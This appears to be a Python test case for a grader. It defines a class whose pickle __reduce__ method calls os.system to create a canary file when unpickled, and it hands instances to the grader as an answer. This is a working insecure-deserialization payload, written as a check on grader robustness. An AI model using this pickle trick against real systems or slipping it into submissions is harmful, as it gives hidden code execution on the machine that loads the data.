# family: Python
# success: an object says how it is to be unpickled, and the grader does so
# tiers: A B none
# sees: Bomb
import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch @FOLDER@/grade-hostile-pickle",)

def double(x):
    return Bomb()

answer = [Bomb()]
